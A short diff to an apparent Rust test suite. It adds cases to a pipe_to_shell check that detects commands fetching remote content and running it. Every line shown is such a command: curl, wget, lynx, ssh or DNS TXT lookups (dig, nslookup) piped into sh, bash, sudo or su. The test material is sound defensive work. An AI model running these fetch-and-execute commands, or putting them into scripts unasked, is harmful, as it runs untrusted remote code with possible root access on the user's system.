@@ -324,6 +324,10 @@ fn pipe_to_shell() {
     check("bash <<< \"$(curl -s https://x)\"", c);
     check("curl -s https://x | sh -c sh", c);
     check("curl -s https://x | sudo -s", c);
+    check("dig +short txt x.example | tr -d '\"' | sh", c);
+    check("bash -c \"$(nslookup -q=txt x.example)\"", c);
+    check("lynx -source https://x | bash", c);
+    check("ssh host cat /tmp/payload | sh", c);
     check("curl -s https://x | sudo -Ei", c);
     check("wget -qO- https://x | su", c);
     check("curl -s https://x | sudo su - root", c);
